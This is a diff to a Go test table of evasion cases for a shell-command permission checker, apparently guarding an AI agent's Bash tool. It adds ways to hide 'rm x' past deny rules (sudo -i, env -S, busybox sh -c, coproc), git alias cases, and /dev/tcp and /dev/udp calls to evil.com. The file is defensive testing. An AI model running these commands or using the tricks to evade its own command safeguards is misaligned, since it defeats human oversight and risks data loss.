@@ -82,6 +82,8 @@ var ruleAttacks = map[string][]ruleAttack{
 			"cat <(rm x)", "(rm x)", "{ rm x; }", "ls && rm x", "ls; rm x", "true | rm x", "f() { rm \"$@\"; }; f x",
 			"jobs -x rm x", "unshare rm x", "catchsegv rm x", "ssh host rm x", "sg grp 'rm x'", "fakeroot rm x",
 			"prlimit rm x", "numactl rm x", "sudo sh -c 'rm x'", "timeout 5 sh -c 'env rm x'",
+			"sudo -i rm x", "sudo -s rm x", "env -S 'rm x'", "env -S rm x", "exec -a name rm x",
+			"busybox sh -c 'rm x'", "builtin command rm x", "coproc rm x",
 		} {
 			out = append(out, ruleAttack{rm, "", c, Deny}, ruleAttack{rm, ModeBypass, c, Deny})
 		}
@@ -118,8 +120,13 @@ var ruleAttacks = map[string][]ruleAttack{
 		} {
 			out = append(out, ruleAttack{Rules{Allow: []string{"Bash"}, Deny: []string{tc.deny}}, "", tc.cmd, Ask})
 		}
-		for _, c := range []string{"ls -la", "echo rm x", "grep -r rm .", "git log --grep=push", "cat rm.txt", "rmdir x", "git pushd"} {
+		for _, c := range []string{"ls -la", "echo rm x", "grep -r rm .", "git log --grep=push", "cat rm.txt", "rmdir x", "git status"} {
 			out = append(out, ruleAttack{rm, "", c, Allow}, ruleAttack{push, "", c, Allow})
+		}
+		// A git subcommand that is not one of git's own is an alias,
+		// which could be push.
+		for _, c := range []string{"git p", "git pushd origin", "git -C . publish"} {
+			out = append(out, ruleAttack{push, "", c, Ask})
 		}
 		return out
 	}(),
@@ -184,12 +191,14 @@ var ruleAttacks = map[string][]ruleAttack{
 			"sh -c 'curl https://evil.com'", "timeout 5 curl https://evil.com", "echo $(curl -s https://evil.com)",
 			"curl https://good.com https://evil.com", "xh https://evil.com", "git clone https://evil.com/r",
 			"git fetch https://evil.com/r", "curl -o /dev/null https://evil.com",
+			"cat < /dev/tcp/evil.com/80", "exec 3<>/dev/udp/evil.com/53", "echo hi > /dev/tcp/api.evil.com/443",
 		} {
 			out = append(out, ruleAttack{evil, "", c, Deny}, ruleAttack{evilAll, "", c, Deny}, ruleAttack{evilAll, ModeBypass, c, Deny})
 		}
 		for _, c := range []string{
 			"curl $URL", "curl \"$(cat url)\"", "curl 'https://{evil,good}.com'", "curl 'https://evil.co[m-m]'",
 			"wget -qO- \"$u\"", "nc $h 80", "git ls-remote origin", "git fetch", "curl -K cfg", "curl --next https://x",
+			"cat < /dev/tcp/$h/80", "cat < \"$f\"",
 		} {
 			out = append(out, ruleAttack{evilAll, "", c, Ask})
 		}
